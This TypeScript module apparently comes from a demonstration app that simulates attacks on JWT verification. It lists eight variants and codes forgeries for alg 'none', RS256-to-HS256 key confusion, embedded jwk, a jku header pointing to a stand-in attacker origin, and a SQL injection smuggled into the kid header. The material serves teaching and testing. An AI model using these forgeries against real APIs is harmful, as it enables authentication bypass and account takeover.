/** What is made of a token that the attacker has come by, in eight ways. Nothing here knows the issuer's private key. */
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import { textIn, utf8 } from "@/lib/crypto/bytes";
import { hs256 } from "@/lib/crypto/hs256";
import type { Json } from "@/lib/crypto/json";
import { decodeJwt } from "@/lib/crypto/jwt";
import type { PublicJwk, RsaKey } from "@/lib/crypto/keys";
import { publicKeyPem } from "@/lib/crypto/pem";
import { replaceSegment, withMember } from "@/lib/crypto/rewrite-jwt";
import { signCompact } from "@/lib/crypto/rs256";
import { KEYS_PATH } from "@/lib/parties/attacker/key-host";

const variant = (id: string, name: string, does: string) => ({ id, name, does });

export const variants = [
	variant(
		"none",
		"writes alg none",
		"The attacker changes an old token, and says in its header that it has no signature.",
	),
	variant(
		"hs256",
		"turns RS256 into HS256",
		"The attacker signs with the issuer's public key, as if it were a secret.",
	),
	variant(
		"jwk",
		"brings its own key",
		"The attacker signs with its own key, and puts the public half into the header.",
	),
	variant(
		"jku",
		"points to its own key",
		"The attacker signs with its own key, and says in the header where the public half lies.",
	),
	variant(
		"kid",
		"writes a query into kid",
		"The attacker signs with its own key, and has the API's own look-up bring the public half back.",
	),
	variant(
		"audience",
		"takes a token for another API",
		"The attacker sends a genuine token that was issued for another API.",
	),
	variant("expired", "takes an expired token", "The attacker sends a genuine token whose time is over."),
	variant("id-token", "takes an ID Token", "The attacker sends a genuine ID Token as if it were an access token."),
] as const;

/** What a forger goes by, beside the token. */
export interface Known {
	/** The issuer's key as its JWKS shows it to everybody. */
	readonly issuerKey: PublicJwk;
	/** A key pair that it has made itself. */
	readonly key: RsaKey;
	/** When the forged token is to be over, in seconds since 1970. */
	readonly exp: number;
}

type Forge = (token: string, known: Known) => string | Promise<string>;

const written = (token: string, part: "header" | "payload", members: Readonly<Record<string, Json>>): string =>
	Object.entries(members).reduce(
		(text, [name, value]) => withMember(text, part, name, () => JSON.stringify(value)),
		token,
	);

/** Signs anew what stands in a token, with the attacker's key. */
async function signed(token: string, key: RsaKey): Promise<string> {
	const decoded = decodeJwt(token);
	if ("problem" in decoded) throw new Error(decoded.problem);
	const payload = textIn(decoded.segments[1]) ?? "";
	return signCompact({ ...decoded.header, alg: "RS256" }, payload, key);
}

/** What an attacker writes whose key has to be believed. */
const withKey = (token: string, { exp, key }: Known, member: Readonly<Record<string, Json>>): Promise<string> =>
	signed(written(written(token, "payload", { exp }), "header", { kid: key.kid, ...member }), key);

const publicHalf = ({ kty, n, e }: RsaKey) => ({ kty, n, e });

const forge: Readonly<Record<string, Forge>> = {
	none: (token, { exp }) =>
		replaceSegment(written(written(token, "payload", { exp }), "header", { alg: "none" }), "signature", ""),
	hs256: (token, { exp, issuerKey }) => {
		const text = written(written(token, "payload", { exp }), "header", { alg: "HS256" });
		const input = text.slice(0, text.lastIndexOf("."));
		return `${input}.${hs256(input, utf8(publicKeyPem(issuerKey)))}`;
	},
	jwk: (token, known) => withKey(token, known, { jwk: publicHalf(known.key) }),
	jku: (token, known) => withKey(token, known, { jku: `${EVIL_ORIGIN}${KEYS_PATH}` }),
	// The first quotation mark ends the text that the API looks for. What follows is a query of the attacker's.
	kid: (token, known) => withKey(token, known, { kid: `x' UNION SELECT '${JSON.stringify(publicHalf(known.key))}` }),
};

/** How a variant forges; `undefined` where it takes a token as it was issued. */
export const forgeryOf = (id = "none"): Forge | undefined => (Object.hasOwn(forge, id) ? forge[id] : undefined);
